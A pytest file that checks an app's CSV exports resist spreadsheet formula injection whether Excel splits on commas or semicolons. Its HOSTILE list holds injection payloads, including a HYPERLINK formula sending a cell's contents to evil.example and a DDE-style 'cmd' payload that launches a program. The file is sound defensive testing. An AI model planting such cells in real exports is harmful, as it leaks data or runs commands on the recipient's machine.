"""CSV cells holding the other separator (issue 20, item 6).

Found: a cell such as ``x;=HYPERLINK(…)`` in the comma CSV was written unquoted, and Excel set to
the semicolon list separator (Vietnamese Windows) split it into a new cell starting with ``=``: a live
formula. Quoting alone does not help (with the other separator a quoted field is not at the start of
a cell). Every CSV this app writes is read back here with BOTH separators, as Excel in either setting
would; no cell may start a formula.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from gender_targets.exports import DANGEROUS_PREFIXES, to_csv, to_csv_excel

HOSTILE = [
    'x;=HYPERLINK("http://evil.example/?"&A1;"bấm")',
    "a,=1+2",
    "b;+cmd|' /C calc'!A0",
    "c,-2+3",
    "d;@SUM(A1:A2)",
    "e\t=1+1",
    'f";=1+1',
    "g\r\n=1+1",
    "=ngay-tu-dau",
    " ;=khoang-trang",
]


def _cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize(
    "writer",
    [
        lambda f: to_csv(f, "vi"),
        lambda f: to_csv(f, "en"),
        lambda f: to_csv_excel(f, "vi"),
        lambda f: to_csv_excel(f, "en"),
    ],
    ids=["machine-vi", "machine-en", "excel-vi", "excel-en"],
)
def test_no_cell_starts_a_formula_whichever_separator_excel_uses(writer):
    frame = pd.DataFrame({"Tên cơ quan": HOSTILE, "Ghi chú": list(reversed(HOSTILE)), "Số": [1.5] * len(HOSTILE)})
    text = writer(frame).decode("utf-8-sig")
    for delimiter in (",", ";"):
        for cell in _cells(text, delimiter):
            assert not cell.startswith(DANGEROUS_PREFIXES), (delimiter, cell)
    own = ";" if text.split("\r\n")[0].count(";") else ","
    back = list(csv.reader(io.StringIO(text, newline=""), delimiter=own))
    # the text comes back, with a ' where a cell could have started a formula
    assert [r[0].replace("'", "") for r in back[1:]] == [h.replace("'", "") for h in HOSTILE]


def test_numbers_stay_numbers_for_excel():
    text = to_csv_excel(pd.DataFrame({"v": [58.333, 12.0]}), "vi").decode("utf-8-sig")
    assert text.split("\r\n")[1:3] == ["58,3", "12,0"]  # unquoted, the decimal comma of the ";" file
